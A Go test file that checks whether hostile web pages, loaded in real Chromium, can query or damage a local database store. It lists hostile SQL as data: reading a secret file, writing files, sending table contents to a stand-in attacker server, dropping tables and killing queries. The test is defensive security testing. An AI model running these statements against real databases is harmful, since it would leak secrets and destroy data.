package store_test

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/metranova/flow-collector/sink/store"
	"github.com/metranova/flow-collector/sink/store/storetest"
)

// TestHostilePage_inABrowser has real Chromium show pages of other sites, on the host and as the user of a store:
// `make test-hostile-page`. PAGE_TEST is a directory that has playwright-core.
func TestHostilePage_inABrowser(t *testing.T) {
	browser := os.Getenv("PAGE_TEST")
	if browser == "" {
		t.Skip("needs a browser: make test-hostile-page")
	}
	base := storetest.StartWith(t, store.Options{QueryRows: 1 << 60})
	out := newOutside(t)
	run(t, base, "CREATE TABLE plain (x String) ENGINE = MergeTree ORDER BY x")
	run(t, base, "INSERT INTO plain VALUES ('"+secretText+"')")
	leave := abandon(t, base, endless, 1)
	defer leave()
	waitFor(t, "the statement to run", func() bool { return runningEndless(t, base) == "1" })

	asked := make(chan string, 1000)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/page.html" && r.URL.Path != "/favicon.ico" {
			asked <- r.URL.String()
		}
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte("<!doctype html><title>evil</title><body>"))
	}))
	defer evil.Close()
	fill := strings.NewReplacer("{FILE}", out.secret, "{DIR}", out.dir, "{EVIL}", evil.URL)
	var statements []string
	for _, sql := range []string{
		"SELECT x FROM plain",
		"SELECT * FROM file('{FILE}', 'LineAsString')",
		"INSERT INTO plain SELECT 'written'",
		"INSERT INTO FUNCTION file('{DIR}/new.txt', 'TSVRaw', 's String') SELECT 'x'",
		"INSERT INTO FUNCTION url('{EVIL}/leak', 'TSVRaw', 's String') SELECT x FROM plain",
		"CREATE TABLE hostile (x String) ENGINE = Memory",
		"DROP TABLE plain",
		"KILL QUERY WHERE 1",
	} {
		statements = append(statements, fill.Replace(sql))
	}
	file := filepath.Join(t.TempDir(), "statements.json")
	text, err := json.Marshal(statements)
	must(t, err)
	must(t, os.WriteFile(file, text, 0o600))
	script := exec.CommandContext(t.Context(), "node", filepath.Join("testdata", "hostile.mjs"), base, evil.URL,
		browser, file)
	script.WaitDelay = 10 * time.Second
	output, err := script.CombinedOutput()
	t.Logf("%s", output)
	must(t, err)

	if !strings.Contains(string(output), "typed by the user") {
		t.Error("the store was not reached from the browser at all")
	}
	if strings.Contains(string(output), secretText) || strings.Contains(string(output), "a WebSocket is open") {
		t.Error("a page could read")
	}
	if got := run(t, base, "SELECT count(), any(x) FROM plain"); got != "1\t"+secretText+"\n" {
		t.Errorf("the table has %q", got)
	}
	if got := run(t, base, "SHOW TABLES"); got != "plain\n" {
		t.Errorf("the tables are %q", got)
	}
	if n := runningEndless(t, base); n != "1" {
		t.Errorf("%s statements run", n)
	}
	names, err := os.ReadDir(out.dir)
	must(t, err)
	if len(names) != 1 {
		t.Errorf("the directory holds %v", names)
	}
	select {
	case url := <-asked:
		t.Errorf("the attacker's server was asked for %s", url)
	default:
	}
}
